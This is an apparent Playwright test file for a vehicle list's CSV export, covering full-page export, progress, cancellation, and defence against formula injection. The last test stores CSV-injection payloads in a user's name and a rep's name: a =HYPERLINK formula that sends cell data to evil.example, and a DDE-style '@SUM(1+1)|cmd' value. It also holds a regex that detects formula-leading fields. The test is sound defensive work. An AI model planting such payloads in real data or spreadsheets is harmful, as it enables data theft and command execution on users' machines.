/**
 * CSV export of a list (issue 17, ADR 0034): Export CSV on the vehicles list writes every page
 * of the current filter and sort, not only the page on screen, as the API returns them: a UTF-8
 * BOM, the table's headers, quoted fields, one record per vehicle in the list's order. A large
 * export shows its progress with the count and can be cancelled. (The 10,000-vehicle export at
 * CPU 4x is measured by scripts/measure-export.ts, which checks that file's rows too.)
 */
import { readFile } from 'node:fs/promises';
import { expect, test, type Page } from '@playwright/test';
import { openAs, openAsAdmin, serverList, settled, table } from './list-helpers';

interface VehicleRow {
  vehicle_id: number;
  vin: string;
  guid: string | null;
  is_active: string;
  autoyear: number;
  automake: string;
  automodel: string;
  seller: { dealer_num: string | null; dealer_name: string | null } | null;
  inspections: { condition_report_type_id: number }[];
}

/** Every vehicle of DAL that the list shows with `active=Y`, sorted by year ascending, read from the API 1,000 at a time. */
async function allActiveByYear(page: Page, token: string): Promise<VehicleRow[]> {
  const rows: VehicleRow[] = [];
  for (let number = 1; ; number++) {
    const query = new URLSearchParams([
      ['site', 'DAL'],
      ['per_page', '1000'],
      ['page', String(number)],
      ['order_by[]', 'autoyear|asc'],
      ['filters[0]', 'is_active|eq|Y'],
      ['with[]', 'seller'],
      ['with[]', 'inspections'],
    ]);
    const reply = await serverList<VehicleRow>(page, token, 'vehicles', query.toString());
    rows.push(...reply.data);
    if (rows.length >= reply.total || reply.data.length === 0) return rows;
  }
}

/** RFC 4180 records: quoted fields with doubled quotes, CRLF between records. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let index = 0; index < text.length; index++) {
    const char = text[index];
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        field += '"';
        index++;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      record.push(field);
      field = '';
    } else if (char === '\r' && text[index + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      index++;
    } else field += char;
  }
  expect(field, 'the file ends with CRLF').toBe('');
  return records;
}

/** Clicks Export CSV and reads the file: its name and its records (after the UTF-8 byte order mark). */
async function exportCsv(page: Page): Promise<{ fileName: string; records: string[][] }> {
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export CSV' }).click()]);
  const bytes = await readFile(await download.path());
  expect([...bytes.subarray(0, 3)], 'UTF-8 byte order mark').toEqual([0xef, 0xbb, 0xbf]);
  return { fileName: download.suggestedFilename(), records: parseCsv(bytes.subarray(3).toString('utf8')) };
}

test('exports every page of the filtered, sorted vehicles list as CSV, as the API returns them', async ({ page }) => {
  const token = await openAs(page, 'inspector', '/vehicles?active=Y&sort=autoyear&dir=asc');
  const list = table(page, 'Vehicles');
  await settled(list);
  const expected = await allActiveByYear(page, token);
  expect(expected.length).toBeGreaterThan(500);

  const { fileName, records } = await exportCsv(page);
  expect(fileName).toMatch(/^vehicles-\d{4}-\d{2}-\d{2}\.csv$/);
  await expect(page.getByRole('status').filter({ hasText: `Exported ${expected.length.toLocaleString('en-US')} vehicles to ${fileName}.` })).toBeVisible();

  expect(records[0]).toEqual(['ID', 'VIN', 'Active', 'Year', 'Make', 'Model', 'Seller#', 'Seller', 'Inspection', 'Location History']);
  const rows = records.slice(1);
  expect(rows).toHaveLength(expected.length);
  // The other specs write reports on DAL vehicles while this one runs (one server for the
  // suite): a vehicle's Inspection column may change during the export, and the file may then
  // hold either what the API said before it or after it. Nothing else of these rows changes.
  const after = await allActiveByYear(page, token);
  expect(after.map((vehicle) => vehicle.vehicle_id)).toEqual(expected.map((vehicle) => vehicle.vehicle_id));
  const inspectionText = (vehicle: VehicleRow) =>
    vehicle.inspections.length === 0 ? 'No Inspection' : vehicle.inspections[0]?.condition_report_type_id === 2 ? 'Approved Inspection' : 'Inspection';
  const origin = new URL(page.url()).origin;
  rows.forEach((row, index) => {
    const vehicle = expected[index] as VehicleRow;
    const later = inspectionText(after[index] as VehicleRow);
    const inspection = row[8] === later ? later : inspectionText(vehicle);
    expect(row).toEqual([
      String(vehicle.vehicle_id),
      vehicle.vin,
      vehicle.is_active,
      String(vehicle.autoyear),
      vehicle.automake,
      vehicle.automodel,
      vehicle.seller?.dealer_num ?? '',
      vehicle.seller?.dealer_name ?? '',
      inspection,
      vehicle.guid ? `${origin}/dealers/locationHistory/DAL/${encodeURIComponent(vehicle.guid)}` : '',
    ]);
  });
});

test('shows the export’s progress with the count, and Cancel stops it without a file', async ({ page }) => {
  await openAs(page, 'inspector', '/vehicles');
  const list = table(page, 'Vehicles');
  await settled(list);
  // The export's second page waits until the test lets it go, so its progress can be seen.
  let release: () => void = () => undefined;
  const held = new Promise<void>((resolve) => (release = resolve));
  await page.route(
    (url) => url.pathname === '/v3/util/vehicles' && url.searchParams.get('page') === '2' && url.searchParams.get('per_page') === '100',
    async (route) => {
      await held;
      await route.continue().catch(() => undefined);
    },
  );
  let downloads = 0;
  page.on('download', () => downloads++);

  const total = (await page.getByText(/of [\d,]+ vehicles$/).innerText()).replace(/^.* of /, '');
  await page.getByRole('button', { name: 'Export CSV' }).click();
  const progress = page.getByRole('progressbar', { name: 'Export of vehicles' });
  await expect(progress).toBeVisible();
  await expect(page.getByRole('status').filter({ hasText: `Exporting 100 of ${total}…` })).toBeVisible();
  await expect(progress).toHaveAttribute('value', '100');
  const cancel = page.getByRole('button', { name: 'Cancel export' });
  await expect(cancel).toBeFocused();
  await cancel.click();
  await expect(page.getByRole('status').filter({ hasText: 'Export cancelled.' })).toBeVisible();
  await expect(progress).toHaveCount(0);
  await expect(page.getByRole('button', { name: 'Export CSV' })).toBeEnabled();
  release();
  expect(downloads).toBe(0);
});

test('a formula typed by anyone exports as text: a name given at sign-up and a rep’s name typed by the clerk', async ({ page, browser }) => {
  // Anyone may register: the name is whatever they typed, formula and all.
  const username = `csv-${test.info().testId}-${test.info().repeatEachIndex}-${test.info().retry}@example.com`;
  const hyperlink = '=HYPERLINK("http://evil.example/?"&A2,"Open")';
  const registered = await page.request.post('/v3/register', {
    data: { first_name: hyperlink, last_name: 'Doe', username, password: 'a-long-pass-phrase-2026' },
  });
  expect(registered.status()).toBe(201);
  const registeredName = ((await registered.json()) as { response: { name: string } }).response.name;
  expect(registeredName.startsWith('=HYPERLINK(')).toBe(true);

  await openAsAdmin(page, `/users?q=${encodeURIComponent(username)}`);
  const users = table(page, 'Cloud Users');
  await settled(users);
  await expect(users.getByRole('link', { name: registeredName })).toBeVisible();
  const { records: userRecords } = await exportCsv(page);
  expect(userRecords[0]?.slice(0, 3)).toEqual(['Name', 'Email Address', 'Username']);
  expect(userRecords.slice(1).map((record) => record.slice(0, 3))).toEqual([[`'${registeredName}`, username, username]]);

  // The clerk stores a formula in a rep's first name (a rep no other test edits: the second oldest of DAL).
  const clerk = await browser.newPage();
  try {
    const token = await openAs(clerk, 'clerk', '/dealers');
    const rep = (await serverList<{ id: number; dealer_id: number }>(clerk, token, 'dealer_reps', 'site=DAL&order_by[]=id|asc&per_page=1&page=2')).data[0]!;
    const formula = '@SUM(1+1)|cmd';
    const saved = await clerk.request.put(`/v3/util/dealer_reps/${rep.id}?site=DAL`, {
      headers: { Authorization: `Bearer ${token}` },
      data: { name_first: formula },
    });
    expect(saved.status()).toBe(200);
    await clerk.goto(`/dealers/${rep.dealer_id}?tab=reps`);
    const reps = clerk.getByRole('table', { name: /^Reps of / });
    await settled(reps);
    await expect(reps.getByRole('cell', { name: formula })).toBeVisible();
    const { records } = await exportCsv(clerk);
    const firstName = records[0]!.indexOf('First Name');
    const row = records.find((record) => record[records[0]!.indexOf('ID')] === String(rep.id));
    expect(row?.[firstName]).toBe(`'${formula}`);
    // No field of either file starts as a formula would.
    for (const record of [...records, ...userRecords].slice(1)) for (const field of record) expect(field).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
  } finally {
    await clerk.close();
  }
});
